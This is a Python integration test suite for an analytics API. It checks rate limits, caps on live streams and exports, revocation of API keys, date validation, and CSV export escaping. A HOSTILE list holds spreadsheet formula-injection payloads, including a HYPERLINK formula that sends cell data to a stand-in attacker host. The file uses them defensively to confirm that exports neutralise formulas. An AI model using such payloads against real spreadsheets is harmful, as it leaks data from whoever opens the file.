"""Views limits over real HTTP: request rates per key and per tenant, caps on live streams and exports,
live streams that end when their key is revoked, one shared reading per tenant."""

from __future__ import annotations

import asyncio
import csv
import io
import time
import uuid
from collections.abc import AsyncIterator, Mapping
from contextlib import AsyncExitStack
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import httpx
import orjson
import pytest
import pytest_asyncio

from schemas.tenancy import ApiKeyRecord
from storage import Warehouse
from tenancy.directory import Directory, Principal
from tenancy.kafka_log import DirectoryFollower, DirectoryWriter
from tests.conftest import free_port
from tests.integration.test_views_security import tenant_routes
from tests.live import Keys, create_tenant, serve, start_ingest_topics
from tests.viewsdata import DB, NOW, load, views
from views_api.limits import Limits
from views_api.main import create_app
from views_api.settings import ViewsSettings

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module")]


class GatedWarehouse:
    """The store, counting reads; acme's CSV export pages wait while `export_gate` is closed."""

    def __init__(self, inner: Warehouse) -> None:
        self.inner = inner
        self.reads = 0
        self.export_open = True

    async def execute(self, sql: str) -> None:
        await self.inner.execute(sql)

    async def insert(self, table: str, rows: Any) -> None:
        await self.inner.insert(table, rows)

    async def query(self, sql: str, params: Mapping[str, Any] | None = None) -> list[dict[str, Any]]:
        self.reads += 1
        if "ORDER BY ts, event_id" in sql and (params or {}).get("tenant_id") == "acme":
            for _ in range(600):  # at most a minute: a broken test must not hang the run
                if self.export_open:
                    break
                await asyncio.sleep(0.05)
        return await self.inner.query(sql, params)

    async def close(self) -> None:
        pass


@dataclass
class Served:
    url: str
    app: Any
    directory: Directory
    writer: DirectoryWriter
    warehouse: GatedWarehouse
    acme: Keys
    globex: Keys

    def limit(self, **settings: Any) -> Limits:
        """Replace the app's limits by these settings' (the rest at their defaults)."""
        limits = Limits(ViewsSettings(**settings))
        self.app.state.limits = limits
        return limits


def bearer(key: str) -> dict[str, str]:
    return {"authorization": f"Bearer {key}"}


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def s(tmp_path_factory: pytest.TempPathFactory, kafka_bootstrap: str) -> AsyncIterator[Served]:
    _, _, topic = await start_ingest_topics(kafka_bootstrap, f"limits-{uuid.uuid4().hex[:8]}")
    acme = await create_tenant(kafka_bootstrap, topic, "acme", timezone="UTC")
    globex = await create_tenant(kafka_bootstrap, topic, "globex", timezone="Europe/Paris")
    writer = DirectoryWriter(kafka_bootstrap, topic)
    await writer.start()
    async with views(tmp_path_factory.mktemp("limits")) as loaded:
        await load(loaded.warehouse, hostile_searches(), partition=1)
        directory = Directory()
        warehouse = GatedWarehouse(loaded.warehouse)
        app = create_app(
            warehouse, DB, directory, clock=lambda: NOW, follower=DirectoryFollower(kafka_bootstrap, topic, directory)
        )
        with serve(app, free_port()) as url:
            served = Served(url, app, directory, writer, warehouse, acme, globex)
            for _ in range(200):  # the follower has read the keys
                if isinstance(directory.authenticate(globex.read, ("read",)), Principal):
                    break
                await asyncio.sleep(0.05)
            try:
                yield served
            finally:
                await writer.stop()


HOSTILE = ["=1+1", "@SUM(A1)", "+1", "-1+1", "\t=1", '=HYPERLINK("http://evil.test/?"&A1,"click")', " =1"]


def hostile_searches() -> list[dict[str, Any]]:
    """Globex searches typed by end users, each a spreadsheet formula, 3 hours before NOW."""
    at = NOW - timedelta(hours=3)
    common = {"tenant_id": "globex", "session_id": "gh", "end_user_id": "mallory", "domain": "globex.test"}
    return [
        {"event_id": str(uuid.uuid5(uuid.NAMESPACE_URL, f"hostile-{i}")), "type": "search", "query": query,
         "results_count": 0, "timestamp": (at + timedelta(seconds=i)).isoformat(), **common}
        for i, query in enumerate(HOSTILE)
    ]  # fmt: skip


class Stream:
    """A live stream read line by line; `first_tick()` waits for its first tick."""

    def __init__(self, response: httpx.Response) -> None:
        self.response = response
        self.lines = response.aiter_lines()

    async def events(self) -> AsyncIterator[tuple[str, Any]]:
        kind = ""
        async for line in self.lines:
            if line.startswith("event: "):
                kind = line[7:]
            elif line.startswith("data: "):
                yield kind, orjson.loads(line[6:])

    async def first_tick(self) -> Any:
        async for kind, data in self.events():
            assert kind == "tick", (kind, data)
            return data
        raise AssertionError("the stream ended before its first tick")


async def open_stream(stack: AsyncExitStack, client: httpx.AsyncClient, path: str, key: str) -> httpx.Response:
    return await stack.enter_async_context(client.stream("GET", path, headers=bearer(key)))


async def eventually(check: Any, seconds: float = 15) -> None:
    for _ in range(int(seconds / 0.1)):
        if check():
            return
        await asyncio.sleep(0.1)
    assert check()


async def test_a_revoked_keys_live_stream_ends_within_two_seconds(s: Served) -> None:
    s.limit()
    token, record, _ = await s.writer.create_key("acme", "read", "live viewer")
    await eventually(lambda: isinstance(s.directory.authenticate(token, ("read",)), Principal))
    async with httpx.AsyncClient(base_url=s.url, timeout=30) as client, AsyncExitStack() as stack:
        response = await open_stream(stack, client, "/api/dashboard/acme/live?interval=2", token)
        assert response.status_code == 200
        stream = Stream(response)
        assert (await stream.first_tick())["as_of"].startswith("2026-03-18T15:30")
        await s.writer.revoke_key(ApiKeyRecord.model_validate(record))
        await eventually(lambda: not isinstance(s.directory.authenticate(token, ("read",)), Principal))
        seen = time.monotonic()

        async def rest() -> list[tuple[str, Any]]:
            return [event async for event in stream.events()]

        events = await asyncio.wait_for(rest(), timeout=10)
        ended = time.monotonic() - seen
        assert events[-1] == ("end", {"error": "revoked API key"}), events
        assert ended < 2.0, ended
        again = await client.get("/api/dashboard/acme/live?ticks=1", headers=bearer(token))
        assert again.status_code == 401


async def test_live_streams_beyond_the_tenant_cap_are_refused_and_a_slot_frees_when_one_ends(s: Served) -> None:
    limits = s.limit(live_streams_per_tenant=2)
    async with httpx.AsyncClient(base_url=s.url, timeout=30) as client:
        async with AsyncExitStack() as first:
            async with AsyncExitStack() as second:
                streams = []  # kept: a dropped reader would close its connection
                for stack, key in ((first, s.acme.read), (second, s.acme.admin)):
                    response = await open_stream(stack, client, "/api/dashboard/acme/live", key)
                    assert response.status_code == 200
                    streams.append(Stream(response))
                    await streams[-1].first_tick()
                assert limits.streams.open("acme") == 2
                refused = await client.get("/api/dashboard/acme/live?ticks=1", headers=bearer(s.acme.read))
                assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
                assert "TALLY_VIEWS_LIVE_STREAMS_PER_TENANT" in refused.json()["error"]
                assert "already has 2 live streams open" in refused.json()["error"]
                other = await client.get("/api/dashboard/globex/live?ticks=1", headers=bearer(s.globex.read))
                assert other.status_code == 200 and "event: tick" in other.text  # another tenant's own cap
                del streams[1]
            # the client went away: its slot frees
            await eventually(lambda: limits.streams.open("acme") == 1)
            for _ in range(2):  # a stream that ends by itself (ticks=1) gives its slot back too
                again = await client.get("/api/dashboard/acme/live?ticks=1", headers=bearer(s.acme.read))
                assert again.status_code == 200 and again.text.count("event: tick") == 1
            # the server's generator finishes after the client has read the last byte
            await eventually(lambda: limits.streams.open("acme") == 1)
        await eventually(lambda: limits.streams.open("acme") == 0 and "acme" not in limits.live)


async def test_concurrent_exports_beyond_the_tenant_cap_are_refused(s: Served) -> None:
    limits = s.limit(exports_per_tenant=1)
    path = "/api/dashboard/acme/export/csv?days=7"
    async with httpx.AsyncClient(base_url=s.url, timeout=60) as client:
        s.warehouse.export_open = False
        try:
            async with client.stream("GET", path, headers=bearer(s.acme.read)) as running:
                assert running.status_code == 200
                refused = await client.get(path, headers=bearer(s.acme.admin))
                assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
                assert "TALLY_VIEWS_EXPORTS_PER_TENANT" in refused.json()["error"]
                other = await client.get("/api/dashboard/globex/export/csv?days=7", headers=bearer(s.globex.read))
                assert other.status_code == 200 and other.text.startswith("id,type,ts")
                s.warehouse.export_open = True
                body = (await running.aread()).decode()
            assert body.startswith("id,type,ts") and body.count("\r\n") > 10
        finally:
            s.warehouse.export_open = True
        await eventually(lambda: limits.exports.open("acme") == 0)
        after = await client.get(path, headers=bearer(s.acme.admin))
        assert after.status_code == 200 and after.text == body


async def test_a_hammering_key_gets_429_while_other_keys_and_tenants_still_get_200(s: Served) -> None:
    s.limit(key_requests_per_second=1, request_burst_seconds=5, tenant_requests_per_second=1000)
    async with httpx.AsyncClient(base_url=s.url, timeout=30) as client:

        async def get(tenant: str, key: str) -> httpx.Response:
            return await client.get(f"/api/dashboard/{tenant}/overview", headers=bearer(key))

        hammer = [get("acme", s.acme.read) for _ in range(12)]
        *hammered, admin, other = await asyncio.gather(*hammer, get("acme", s.acme.admin), get("globex", s.globex.read))
        statuses = [r.status_code for r in hammered]
        assert statuses.count(200) <= 6 and statuses.count(429) >= 6, statuses  # 5 in the burst, ~1 refilled
        limited = next(r for r in hammered if r.status_code == 429)
        assert 1 <= int(limited.headers["retry-after"]) <= 2
        assert "TALLY_VIEWS_KEY_REQUESTS_PER_SECOND" in limited.json()["error"]
        assert admin.status_code == 200 and other.status_code == 200  # another key, another tenant: unaffected

        s.limit(key_requests_per_second=1000, request_burst_seconds=5, tenant_requests_per_second=1)
        hammer = [get("acme", key) for key in (s.acme.read, s.acme.admin) * 6]
        *hammered, other = await asyncio.gather(*hammer, get("globex", s.globex.read))
        statuses = [r.status_code for r in hammered]
        assert statuses.count(429) >= 6, statuses  # all of acme's keys share its tenant rate
        limited = next(r for r in hammered if r.status_code == 429)
        assert "tenant 'acme'" in limited.json()["error"] and "retry-after" in limited.headers
        assert other.status_code == 200, other.text  # one tenant cannot starve another


async def test_every_tenant_route_counts_against_the_keys_rate(s: Served) -> None:
    s.limit(key_requests_per_second=0.001, request_burst_seconds=1)  # one request, then none for 1000 s
    async with httpx.AsyncClient(base_url=s.url, timeout=30) as client:
        assert (await client.get("/api/dashboard/acme/info", headers=bearer(s.acme.admin))).status_code == 200
        routes = tenant_routes(s)  # type: ignore[arg-type]
        assert len(routes) >= 14
        for method, path in routes:
            body = {"json": {}} if method in ("PUT", "POST") else {}
            url = path.replace("{tenant_id}", "acme")
            response = await client.request(method, url, headers=bearer(s.acme.admin), **body)
            assert response.status_code == 429, (method, path, response.text)
            assert int(response.headers["retry-after"]) >= 900
        assert (await client.get("/api/dashboard/acme/info", headers=bearer(s.acme.read))).status_code == 200


async def test_a_tenants_live_streams_share_one_reading_and_ticks_have_a_floor(s: Served) -> None:
    s.limit(live_min_interval_seconds=1.0)
    async with httpx.AsyncClient(base_url=s.url, timeout=60) as client:
        before, started = s.warehouse.reads, time.monotonic()
        responses = await asyncio.gather(
            *(
                client.get("/api/dashboard/acme/live?ticks=4&interval=0.2", headers=bearer(s.acme.read))
                for _ in range(3)
            )
        )
        took, reads = time.monotonic() - started, s.warehouse.reads - before
    assert all(r.status_code == 200 and r.text.count("event: tick") == 4 for r in responses)
    assert took >= 3.0  # 4 ticks 1 s apart at least, not 0.2 s
    # 3 streams x 4 ticks x 3 queries = 36 reads unshared; shared: one reading (3 queries) per second or so
    assert reads <= 3 * (int(took) + 2), (reads, took)


@pytest.mark.parametrize(
    ("query", "param"),
    [
        ("from=0001-01-01&to=2026-03-01&tz=Europe/Paris", "from"),
        ("from=9999-12-30&to=9999-12-31", "from"),
        ("from=2026-03-01&to=9999-12-31", "to"),
        ("from=2026-03-01T00:00:00-23:59&to=9999-12-31T23:59:59-01:00", "to"),
        ("from=2026-03-05&to=2026-03-01", "to"),
        ("tz=Europe", "tz"),
        ("tz=Nowhere/City", "tz"),
        ("days=99999999999999999999", "days"),
    ],
)
async def test_malformed_dates_and_zones_answer_422_naming_the_parameter(s: Served, query: str, param: str) -> None:
    s.limit()
    async with httpx.AsyncClient(base_url=s.url, timeout=30) as client:
        for view in ("costs", "export/csv", "funnel"):
            response = await client.get(f"/api/dashboard/acme/{view}?{query}", headers=bearer(s.acme.read))
            assert response.status_code == 422, (view, query, response.status_code, response.text)
            assert [d["loc"] for d in response.json()["detail"]] == [["query", param]], response.text


async def test_csv_export_cells_never_start_with_a_formula_character(s: Served) -> None:
    s.limit()
    async with httpx.AsyncClient(base_url=s.url, timeout=30) as client:
        response = await client.get(
            "/api/dashboard/globex/export/csv?from=2026-03-18&to=2026-03-18", headers=bearer(s.globex.read)
        )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    searches = {r["id"]: r for r in rows if r["type"] == "search"}
    assert len(searches) == len(HOSTILE)
    for event in hostile_searches():
        cell = searches[event["event_id"]]["search_query"]
        assert cell[:1] not in "=+-@\t\r" and cell.lstrip()[:1] not in "=+-@", cell
        assert cell == "'" + event["query"] or cell == "'" + event["query"].strip(), (cell, event["query"])
        assert searches[event["event_id"]]["results_count"] == "0"  # numbers stay numbers
    costs = [r["cost_usd"] for r in rows if r["type"] == "llm_call"]
    assert costs and all(c[:1].isdigit() for c in costs)


async def test_a_live_stream_ends_after_its_maximum_lifetime(s: Served) -> None:
    s.limit(live_max_seconds=1, live_min_interval_seconds=1)
    async with httpx.AsyncClient(base_url=s.url, timeout=30) as client:
        started = time.monotonic()
        response = await asyncio.wait_for(
            client.get("/api/dashboard/acme/live", headers=bearer(s.acme.read)), timeout=20
        )
    assert response.status_code == 200 and time.monotonic() - started >= 1.0
    assert response.text.count("event: tick") >= 1
    assert response.text.rstrip().endswith('data: {"error":"this stream reached its maximum lifetime; reconnect"}')
